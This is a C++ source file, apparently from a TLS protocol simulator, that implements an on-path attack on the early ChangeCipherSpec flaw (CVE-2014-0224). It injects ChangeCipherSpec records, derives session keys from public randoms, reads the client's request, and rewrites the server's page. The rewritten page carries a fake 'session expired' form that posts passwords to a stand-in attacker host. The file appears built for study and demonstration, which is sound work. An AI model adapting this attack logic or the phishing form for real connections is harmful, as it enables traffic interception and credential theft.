// early-ccs (CVE-2014-0224, OpenSSL before 1.0.1h): right after ServerHello the on-path attacker
// injects a ChangeCipherSpec to the client and one to the server. A lenient side takes it and
// computes its key block from the master secret as it is then: empty, so the keys depend only on
// the two public randoms. It keeps that key block for the rest of the connection, and only
// Finished uses the real master secret, so both Finished verify (ChangeCipherSpec is not a
// handshake message and changes no transcript). The attacker computes the same keys from the
// randoms it saw, protects the handshake records the victims now expect protected, reads the
// request and rewrites the page. A correct side accepts ChangeCipherSpec only where its state
// table has it, once the keys exist (RFC 6101 5.3, RFC 5246 7.1), and answers unexpected_message.
#include <algorithm>
#include <functional>

#include "attack/script.hpp"
#include "hs/key_schedule.hpp"

namespace sim::attack {

namespace {

constexpr size_t kHeader = 5;

// What the attacker adds to the server's page: a form that posts to it.
const std::string kInjected =
    "<form action=\"https://www.attacker.test/steal\" method=\"post\">Session expired, password: "
    "<input name=\"pw\"></form>";

// The page with the attacker's form before </body>, its Content-Length made right again.
Bytes altered_page(ByteView page) {
  std::string s(page.begin(), page.end());
  size_t head_end = s.find("\r\n\r\n");
  if (head_end == std::string::npos) return to_bytes(s + kInjected);
  std::string head = s.substr(0, head_end + 4), body = s.substr(head_end + 4);
  size_t at = body.rfind("</body>");
  body.insert(at == std::string::npos ? body.size() : at, kInjected);
  const std::string field = "Content-Length: ";
  size_t cl = head.find(field);
  if (cl != std::string::npos) {
    size_t end = head.find("\r\n", cl);
    head.replace(cl + field.size(), end - cl - field.size(), std::to_string(body.size()));
  }
  return to_bytes(head + body);
}

class EarlyCcs : public Script {
 public:
  explicit EarlyCcs(uint64_t seed) : rng_(seed, "attacker") {
    won_ = msg("attack.early-ccs.succeeded");
    lost_ = msg("attack.early-ccs.failed");
  }

  void on_record(const Event& record, Wire& wire) override {
    const Bytes& b = record.bytes;
    if (b.size() < kHeader) return wire.pass();
    bool from_client = record.from == Actor::client;
    bool prot = record.protection.is_protected();
    // A side that refused the injected ChangeCipherSpec sends its alert in the clear: the attack
    // is over, what follows passes untouched.
    if (!prot && b[0] == uint8_t(ContentType::alert)) stopped_ = true;
    if (stopped_) return wire.pass();
    if (from_client && handshake_type(record) == HandshakeType::client_hello && b.size() >= 11 + 32) {
      client_random_.assign(b.begin() + 11, b.begin() + 43);
      return wire.pass();
    }
    if (!from_client && handshake_type(record) == HandshakeType::server_hello && !weak_) {
      if (!learn_server_hello(b)) return wire.pass();
      // The ServerHello goes first (the client must know the suite), then a ChangeCipherSpec to
      // each side; the server, having sent its flight, already knows the suite.
      wire.pass();
      Bytes ccs = make_record(uint8_t(ContentType::change_cipher_spec), b[1], b[2], Bytes{1});
      wire.inject(Actor::client, ccs, AttackReason(msg("attack.early-ccs.inject").arg("side", actor_message(Actor::client))));
      wire.inject(Actor::server, ccs, AttackReason(msg("attack.early-ccs.inject").arg("side", actor_message(Actor::server))));
      return;
    }
    if (!weak_) return wire.pass();
    if (from_client) return client_record(record, wire);
    return server_record(record, wire);
  }

 protected:
  // The attacker read the request and the client received the page it altered.
  bool succeeded(const Trace& t) const override {
    return !request_.empty() && contains(t.client_app_received, altered_);
  }
  std::vector<AttackEvidence> evidence(const Trace& t) const override {
    std::vector<AttackEvidence> ev;
    if (!key_block_.empty())
      ev.push_back(hex_evidence("key_block", msg("evidence.early_ccs_key_block"), key_block_, first_attack_event(t, AttackAction::Kind::inject)));
    if (!request_.empty()) ev.push_back(text_evidence("request_read", msg("evidence.request_read"), request_, request_event(t)));
    if (!altered_.empty())
      ev.push_back(text_evidence("page_altered", msg("evidence.page_altered"), altered_, action_event(t, "attack.early-ccs.alter")));
    return ev;
  }

 private:
  static std::optional<uint32_t> action_event(const Trace& t, const std::string& reason_key) {
    for (size_t i = 0; i < t.events.size(); ++i)
      if (t.events[i].attack && t.events[i].attack->reason_key == reason_key) return uint32_t(i);
    return std::nullopt;
  }
  // The client's first application data record, the one the attacker read.
  static std::optional<uint32_t> request_event(const Trace& t) {
    for (size_t i = 0; i < t.events.size(); ++i)
      if (t.events[i].from == Actor::client && !t.events[i].attack && is_application_record(t.events[i])) return uint32_t(i);
    return std::nullopt;
  }

  // Version, server random, suite and compression from the ServerHello record; then the key
  // block from an empty master secret and the two randoms, with the engine's own derivation:
  // everything the attacker needs crossed the wire in the clear.
  bool learn_server_hello(const Bytes& b) {
    size_t p = kHeader + 4;
    if (client_random_.size() != 32 || b.size() < p + 2 + 32 + 1) return false;
    uint16_t version = uint16_t(b[p] << 8 | b[p + 1]);
    Bytes server_random(b.begin() + long(p + 2), b.begin() + long(p + 34));
    p += 34;
    p += 1 + b[p];
    if (b.size() < p + 3) return false;
    const CipherSuiteInfo* suite = suite_by_id(uint16_t(b[p] << 8 | b[p + 1]));
    bool deflate = b[p + 2] == 1;
    if (!suite || version < kSsl3 || version > kTls12) return false;
    Derivation kb = derive_keys(Actor::attacker, version, *suite, Bytes{}, client_random_, server_random);
    auto exp = derive_export_keys(Actor::attacker, version, *suite, kb, client_random_, server_random);
    KeyBlock k = key_material(version, *suite, kb, exp);
    key_block_ = kb.output;
    auto state = [=](bool client_write, bool for_writing) {
      return CipherState::make(suite, version, client_write ? "client_write" : "server_write",
                               client_write ? k.client_write_mac_key : k.server_write_mac_key,
                               client_write ? k.client_write_key : k.server_write_key,
                               client_write ? k.client_write_iv : k.server_write_iv, deflate, for_writing);
    };
    weak_ = state;
    to_server_ = state(true, true);
    to_client_ = state(false, true);
    return true;
  }

  Bytes seal(CipherState& cs, const Bytes& record) {
    Derivation d;
    InnerLayout inner;
    Bytes frag = seal_record(cs, Actor::attacker, ContentType(record[0]), uint16_t(record[1] << 8 | record[2]),
                             ByteView(record).subspan(kHeader), rng_, &d, &inner);
    return make_record(record[0], record[1], record[2], frag);
  }
  std::optional<Bytes> open(CipherState& cs, const Bytes& record) {
    Derivation d;
    InnerLayout inner;
    auto r = open_record(cs, Actor::attacker, ContentType(record[0]), uint16_t(record[1] << 8 | record[2]),
                         ByteView(record).subspan(kHeader), &d, &inner);
    if (!r.ok()) return std::nullopt;
    return *r;
  }

  void client_record(const Event& record, Wire& wire) {
    const Bytes& b = record.bytes;
    if (!record.protection.is_protected()) {
      // ClientKeyExchange and the client's own ChangeCipherSpec leave in the clear, but the
      // server reads under the weak keys since the injected one: the attacker protects them.
      bool ccs = b[0] == uint8_t(ContentType::change_cipher_spec);
      wire.replace(seal(*to_server_, b), AttackReason(msg("attack.early-ccs.protect").arg("side", actor_message(Actor::server))));
      // Both sides restart the client_write keys (same key block, sequence number 0).
      if (ccs) from_client_ = weak_(true, false);
      return;
    }
    // Under the client_write keys of the early key block: the attacker reads every record (the
    // sequence numbers must follow) and keeps the request. It forwards them saying so, so that
    // the server's view of each joins an event after the records the attacker protected.
    if (!from_client_) return wire.pass();
    auto plain = open(*from_client_, b);
    if (plain && b[0] == uint8_t(ContentType::application_data)) request_.insert(request_.end(), plain->begin(), plain->end());
    wire.forward(AttackReason(msg(plain ? "attack.early-ccs.read" : "attack.forward")));
  }

  void server_record(const Event& record, Wire& wire) {
    const Bytes& b = record.bytes;
    if (!record.protection.is_protected()) {
      // Certificate ... ServerHelloDone, then the server's ChangeCipherSpec: the client reads
      // under the weak server_write keys since the injected ChangeCipherSpec.
      bool ccs = b[0] == uint8_t(ContentType::change_cipher_spec);
      wire.replace(seal(*to_client_, b), AttackReason(msg("attack.early-ccs.protect").arg("side", actor_message(Actor::client))));
      if (ccs) {
        from_server_ = weak_(false, false);
        to_client_ = weak_(false, true);
      }
      return;
    }
    if (!from_server_) return wire.pass();
    // Each of the server's records is opened and sealed again for the client, so the page can
    // change length and the records after it still open (sequence numbers, CBC chain, RC4 state).
    auto plain = open(*from_server_, b);
    if (!plain) return wire.pass();
    Bytes content = *plain;
    bool alter = b[0] == uint8_t(ContentType::application_data) && altered_.empty();
    if (alter) {
      content = altered_page(*plain);
      altered_ = content;
    }
    Bytes out = seal(*to_client_, make_record(b[0], b[1], b[2], content));
    wire.replace(std::move(out), AttackReason(msg(alter ? "attack.early-ccs.alter" : "attack.early-ccs.reseal")));
  }

  Rng rng_;
  Bytes client_random_, key_block_;
  std::function<CipherState(bool, bool)> weak_;
  std::optional<CipherState> to_server_, to_client_, from_client_, from_server_;
  bool stopped_ = false;
  Bytes request_, altered_;
};

}  // namespace

std::shared_ptr<Attacker> early_ccs(const ScenarioOptions& o) { return std::make_shared<EarlyCcs>(o.seed); }

}  // namespace sim::attack
